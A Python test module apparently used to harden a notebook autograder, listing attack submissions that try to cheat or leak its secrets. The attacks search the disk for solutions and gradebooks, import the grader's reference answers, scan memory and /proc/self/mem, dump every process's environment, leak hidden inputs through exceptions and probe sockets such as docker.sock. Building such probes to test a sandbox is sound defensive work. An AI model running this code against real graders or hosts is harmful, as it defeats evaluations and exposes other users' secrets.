"""Looking for what is secret: tests, expected values, references, seeds, grades, other students' work."""

from attack import Attack

LOOKING_AROUND = [
    Attack(
        "walks_the_disk",
        "looks for solutions, gradebook, seeds and submissions in every folder it can name",
        """
        import os
        found = []
        for folder in ("/", "..", "../..", "ROOT", "/proc/self/fd", "/proc/1/root", "/proc/1/cwd"):
            for where, folders, names in os.walk(folder):
                folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
                wanted = ("exercises.py", "90_small.py", "90_small.ipynb", "gradebook.db", "90_small.json")
                found += [os.path.join(where, n) for n in names if n in wanted]
        for path in found: print(open(path).read()[:2000])
        """,
        answers={"scale": "def scale(x): return len(found) and exec(open(found[0]).read())"},
    ),
    Attack(
        "imports_the_grader",
        "imports the grader's package, and asks it for reference answers",
        """
        import importlib
        loot = {}
        for name in ("unrolled_grader", "unrolled_grader.lesson_source.source", "exercises", "nbgrader"):
            try: loot[name] = importlib.import_module(name); print("GOT", name, loot[name])
            except Exception as error: print(type(error))
        """,
        answers={
            "scale": "def scale(x): return loot['unrolled_grader.lesson_source.reference']"
            ".reference_namespace('ROOT')['scale'](x)"
        },
    ),
    Attack(
        "searches_memory",
        "goes through all objects, frames and modules for expected values, labels and secrets",
        """
        import gc, sys
        def search():
            hits = []
            for thing in gc.get_objects():
                if type(thing) is dict and any(type(k) is str and k in ("expected", "sealed", "mistakes", "seed")
                                               for k in list(thing)[:50]):
                    hits.append(thing)
            for frame in sys._current_frames().values():
                while frame:
                    hits += [v for k, v in frame.f_locals.items() if k in ("expected", "verdict", "labels", "seed")]
                    frame = frame.f_back
            return hits
        print("HITS", [str(h)[:200] for h in search() if "9182" + "73645" in str(h) or "secret" + "_ref" in str(h)])
        """,
        answers={
            "scale": "def scale(x):\n    for hit in search():\n        if type(hit) is dict and 'expected' in hit:"
            " return hit['expected'][1]",
            "predict": "def predict(x):\n    for hit in search():\n        if isinstance(hit, np.ndarray) and"
            " hit.shape == (100,): return hit\n    return np.zeros(100, int)",
        },
    ),
    Attack(
        "reads_its_memory",
        "reads /proc/self/mem for the hidden numbers and the seed",
        """
        import re
        found = set()
        with open("/proc/self/mem", "rb") as memory:
            for line in open("/proc/self/maps"):
                if " rw-p" not in line and "[heap]" not in line: continue
                low, high = (int(number, 16) for number in line.split()[0].split("-"))
                try: memory.seek(low); data = memory.read(min(high - low, 2**24))
                except (OSError, ValueError, OverflowError): continue
                found |= {m.group() for m in re.finditer(rb"918273[6]45|372[.]75|secret_ref[e]rence", data)}
        print("FOUND", found)
        """,
    ),
    Attack(
        "answers_from_the_table",
        "returns the expected values of the public table beside the notebook",
        """
        from unrolled.check.table import find_table
        table = find_table()["exercises"]
        def known(name):
            cases = [case for prop in table[name]["properties"] for case in prop["cases"]]
            def answer(*args):
                for case in cases:
                    given = case["args"]
                    if all(np.array_equal(a, b) for a, b in zip(given, args)): return case["expected"][1]
                return cases[0]["expected"][1]
            return answer
        """,
        answers={
            "scale": "scale = known('scale')",
            "softmax": "softmax = known('softmax')",
            "predict": "predict = known('predict')",
        },
    ),
    Attack(
        "asks_the_shell",
        "looks for the tests in the notebook's history, inputs, outputs and hooks",
        """
        shell = get_ipython()
        print("IN", [text for text in shell.user_ns["In"] if "HIDDEN" in text], shell.user_ns["Out"])
        print(list(shell.history_manager.get_range()))
        """,
        answers={
            "scale": "def scale(x):\n    import inspect\n    return [f.code_context for f in inspect.stack()]",
            "total": "def total(x): return len([i for i in get_ipython().user_ns['In'] if 'test' in i])",
        },
    ),
    Attack(
        "reads_the_sources",
        "reads the sources of everything on the stack while it is called, and raises them into the feedback",
        answers={
            "total": """
            def total(x):
                import inspect, linecache, sys
                texts = []
                for info in inspect.stack():
                    texts.append("".join(linecache.getlines(info.filename)))
                text = "\\n".join(texts)
                raise ValueError("LOOT " + str([t for t in ("HID" + "DEN TE" + "STS", "37" + "2.75") if t in text]))
            """
        },
    ),
    Attack(
        "shows_the_inputs",
        "raises the hidden inputs into the feedback",
        answers={
            "total": "def total(x): raise ValueError(f'INPUT {x.tolist()} ' * 50)",
            "scale": "def scale(x): raise ValueError('INPUT ' + repr(x.tolist()) * 50)",
            "predict": "def predict(x): print(x); raise KeyError(str(x.tolist()))",
        },
    ),
    Attack(
        "keeps_the_inputs",
        "saves every input it is given, in files and globals, for the next cell to print",
        answers={
            "total": """
            seen = []
            def total(x):
                seen.append(x.tolist()); open("/tmp/seen", "a").write(repr(x.tolist()))
                return seen
            """,
            "predict": "print('SEEN', seen, __import__('os').path.exists('/tmp/seen') and open('/tmp/seen').read())",
        },
        told="",
    ),
    Attack(
        "looks_at_the_environment",
        "environment, command lines, mounts, users and descriptors of every process it sees",
        """
        import glob, os
        print(dict(os.environ), os.getcwd(), os.getuid())
        for path in glob.glob("/proc/[0-9]*/*"):
            if path.split("/")[-1] in ("environ", "cmdline", "mountinfo", "status", "maps"):
                try: print(path, open(path, errors="replace").read()[:3000])
                except OSError as error: print(error)
        print([os.readlink(f"/proc/self/fd/{n}") for n in os.listdir("/proc/self/fd") if n.isdigit() and int(n) < 20
               and os.path.lexists(f"/proc/self/fd/{n}")])
        """,
    ),
    Attack(
        "calls_home",
        "asks somebody on the network, by every kind of socket",
        """
        import socket
        for family in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, socket.AF_VSOCK):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
                try: socket.socket(family, kind); print("OPENED", family, kind)
                except OSError as error: pass
        for name in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0"):
            try: socket.socket(socket.AF_UNIX).connect(name); print("CONNECTED", name)
            except OSError as error: pass
        """,
    ),
]
